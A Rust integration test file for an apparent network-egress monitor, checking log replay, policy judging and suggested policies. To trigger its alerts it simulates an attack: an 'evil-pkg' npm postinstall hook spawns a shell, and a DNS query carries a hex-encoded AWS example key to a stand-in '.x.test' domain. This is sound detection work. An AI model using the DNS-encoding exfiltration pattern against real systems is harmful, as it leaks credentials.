//! `watcher replay`: a recorded run judged again gives exactly the live alerts; another
//! policy gives what it would have flagged; no root needed; gzip and stdin; malformed input
//! is an error naming the line.
use std::{
    io::Write as _,
    process::{Command, Stdio},
};

use serde_json::Value;
use watcher_tests::{DnsServer, Listener, netprobe_bin, read_jsonl, root_or_skip, watcher_bin};

fn alerts(events: &[Value]) -> Vec<Value> {
    events
        .iter()
        .filter(|e| e["kind"] == "alert")
        .map(|a| {
            let mut a = a.clone();
            a.as_object_mut().unwrap().remove("kind");
            a
        })
        .collect()
}

fn replay_json(args: &[&str], log: &std::path::Path, as_nobody: bool) -> (Option<i32>, Value, String) {
    let mut cmd = if as_nobody {
        let mut c = Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all"]).arg(watcher_bin());
        c
    } else {
        Command::new(watcher_bin())
    };
    let out = cmd.arg("replay").args(args).args(["--format", "json"]).arg(log).output().unwrap();
    let v = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    (out.status.code(), v, String::from_utf8_lossy(&out.stderr).into_owned())
}

#[test]
fn replay_reproduces_the_live_alerts_and_judges_with_other_policies() {
    if !root_or_skip() {
        return;
    }
    let dns_ip = "127.53.0.61";
    let _dns =
        DnsServer::start(dns_ip.parse().unwrap(), vec![("ok.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()])])
            .unwrap();
    let ok = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let other = Listener::start("127.0.0.2:0".parse().unwrap()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let policy_text = |mode: &str, extra_allow: &str| {
        format!(
            "version: 1\npipeline: r\nmode: {mode}\negress:\n  loopback: false\n  allow:\n    - host: ok.watcher.test\n      ports: [{}]\n{extra_allow}dns:\n  resolvers: [{dns_ip}]\nexec:\n  install_scripts:\n    shells: deny\nsecrets:\n  env: [\"AWS_*\"]\n",
            ok.addr().port()
        )
    };
    let p = netprobe_bin().display().to_string();
    let script = format!(
        "{p} dns-sendto {dns_ip} ok.watcher.test A tcp 127.0.0.1:{} tcp {} dns-sendto {dns_ip} 414b4941494f53464f444e4e374558414d504c45.x.test A; sh -c true",
        ok.addr().port(),
        other.addr()
    );
    for mode in ["audit", "enforce"] {
        let pf = dir.path().join(format!("{mode}.yaml"));
        std::fs::write(&pf, policy_text(mode, "")).unwrap();
        let log = dir.path().join(format!("{mode}.jsonl"));
        let out = Command::new(watcher_bin())
            .args(["run", "-q", "--policy"])
            .arg(&pf)
            .arg("--log")
            .arg(&log)
            .args(["--", "sh", "-c", &script])
            .env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
            .env("npm_lifecycle_event", "postinstall")
            .env("npm_package_name", "evil-pkg")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        std::fs::set_permissions(&log, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
        let live = alerts(&read_jsonl(&log));
        assert!(live.len() >= 4, "{mode}: {err}");

        // Same policy (recorded in the log), as an unprivileged user: exactly the live alerts.
        let (code, v, rerr) = replay_json(&[], &log, true);
        assert_eq!(code, Some(77), "{rerr}");
        let replayed = v["logs"][0]["alerts"].as_array().unwrap().clone();
        assert_eq!(replayed, live, "{mode}: replay differs from the live run");

        // A looser policy: the connection to the other listener is no longer a violation.
        let looser = dir.path().join(format!("{mode}-looser.yaml"));
        std::fs::write(&looser, policy_text(mode, "    - ip: 127.0.0.2\n")).unwrap();
        let (_, v, rerr) = replay_json(&["--policy", looser.to_str().unwrap()], &log, false);
        let looser_alerts = v["logs"][0]["alerts"].as_array().unwrap();
        assert!(!looser_alerts.iter().any(|a| a["rule"] == "egress-denied"), "{rerr}");
        assert!(looser_alerts.iter().any(|a| a["rule"] == "secret-exfil"));

        // No policy problems at all under a policy that allows everything seen: exit 0.
        let lax = dir.path().join("lax.yaml");
        std::fs::write(&lax, "version: 1\npipeline: r\negress:\n  allow:\n    - cidr: 0.0.0.0/0\n    - cidr: ::/0\ndns:\n  resolvers: [127.53.0.61]\n  allow: [\"*.test\", \"*.watcher.test\"]\nexec:\n  install_scripts:\n    shells: allow\nsecrets:\n  env: []\n").unwrap();
        let (code, v, rerr) = replay_json(&["--policy", lax.to_str().unwrap(), "--mode", "audit"], &log, false);
        assert_eq!(code, Some(0), "{rerr} {v}");
    }
    assert!(other.connections() >= 1, "audit let it through");
}

#[test]
fn replay_reads_gzip_and_stdin_and_names_the_bad_line() {
    // Needs no root: a hand-written log.
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("p.yaml");
    std::fs::write(&policy, "version: 1\npipeline: r\negress:\n  loopback: false\n").unwrap();
    let lines = [
        r#"{"kind":"start","ts":"2026-11-23T10:00:00Z","schema":1,"watcher":"0.1.0","mode":"run","command":["x"],"pid":1,"sensors":[],"resolvers":[]}"#,
        r#"{"kind":"connect","ts":"2026-11-23T10:00:01Z","pid":2,"ppid":1,"comm":"curl","uid":0,"daddr":"203.0.113.7","dport":443,"proto":"tcp","op":"connect","allowed":true}"#,
    ];
    let text = format!("{}\n{}\n", lines[0], lines[1]);
    let gz = dir.path().join("log.jsonl.gz");
    let mut enc = flate2::write::GzEncoder::new(std::fs::File::create(&gz).unwrap(), flate2::Compression::default());
    enc.write_all(text.as_bytes()).unwrap();
    enc.finish().unwrap();
    let out = Command::new(watcher_bin()).args(["replay", "--policy"]).arg(&policy).arg(&gz).output().unwrap();
    let so = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(77), "{so}{}", String::from_utf8_lossy(&out.stderr));
    assert!(so.contains("egress-denied") && so.contains("203.0.113.7:443"), "{so}");

    let mut child = Command::new(watcher_bin())
        .args(["replay", "--policy"])
        .arg(&policy)
        .arg("-")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(format!("{}\n{{\"kind\":\"connect\", oops\n", lines[0]).as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(err.contains("<stdin>:2:"), "{err}");
    assert_eq!(err.trim().lines().count(), 1, "{err}");
}

#[test]
fn suggest_writes_a_policy_that_replays_clean_and_comments_the_risky_parts() {
    if !root_or_skip() {
        return;
    }
    let dns_ip = "127.53.0.62";
    let _dns = DnsServer::start(
        dns_ip.parse().unwrap(),
        vec![("pkg.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()])],
    )
    .unwrap();
    let l = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let p = netprobe_bin().display().to_string();
    let record = |name: &str, script: String, npm: bool| {
        let log = dir.path().join(name);
        let mut c = Command::new(watcher_bin());
        c.args(["run", "-q", "--log"]).arg(&log).args(["--", "sh", "-c", &script]).stdin(Stdio::null());
        if npm {
            c.env("npm_lifecycle_event", "postinstall").env("npm_package_name", "evil-pkg");
        }
        assert_eq!(c.output().unwrap().status.code(), Some(0));
        log
    };
    let clean = record(
        "clean.jsonl",
        format!("{p} dns-sendto {dns_ip} pkg.watcher.test A tcp 127.0.0.1:{}", l.addr().port()),
        false,
    );
    let suggest = |logs: &[&std::path::Path]| {
        let out = Command::new(watcher_bin())
            .args(["policy", "suggest", "--allow-flagged", "--pipeline", "web"])
            .args(logs)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap()
    };
    let yaml = suggest(&[&clean]);
    let pf = dir.path().join("suggested.yaml");
    std::fs::write(&pf, &yaml).unwrap();
    let out = Command::new(watcher_bin()).args(["policy", "check"]).arg(&pf).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{yaml}\n{}", String::from_utf8_lossy(&out.stderr));
    // The name was looked up (allowed as a DNS name); its address is loopback (allowed as such).
    assert!(yaml.contains("allow: [\"pkg.watcher.test\"]"), "{yaml}");
    assert!(yaml.contains("loopback: true"), "{yaml}");
    assert!(yaml.contains(&format!("resolvers: [\"{dns_ip}\"]")), "{yaml}");
    // Replaying the same log under it: nothing flagged.
    let (code, v, err) = replay_json(&["--policy", pf.to_str().unwrap()], &clean, false);
    assert_eq!(code, Some(0), "{yaml}\n{v}\n{err}");

    // A run with a raw IP (a host in a namespace of ours: a connect no DNS answer explains) and
    // a shell from an install script: both are comments, not allowed.
    let ns = watcher_tests::Netns::new(79).unwrap();
    let target = ns.ns_v4();
    let risky = record("risky.jsonl", format!("{p} tcp {target}:9; sh -c true"), true);
    let yaml = suggest(&[&clean, &risky]);
    assert!(yaml.contains(&format!("# RISKY: connections to {target}")), "{yaml}");
    assert!(yaml.contains("# shell in an install script: npm:evil-pkg"), "{yaml}");
    assert!(yaml.contains("shells: suspicious"), "{yaml}");
    assert!(yaml.contains("# - name: \"evil-pkg\""), "a per-package rule is proposed: {yaml}");
    std::fs::write(&pf, &yaml).unwrap();
    let (code, v, _) = replay_json(&["--policy", pf.to_str().unwrap()], &risky, false);
    assert_eq!(code, Some(77), "the risky run is still flagged: {v}");
}
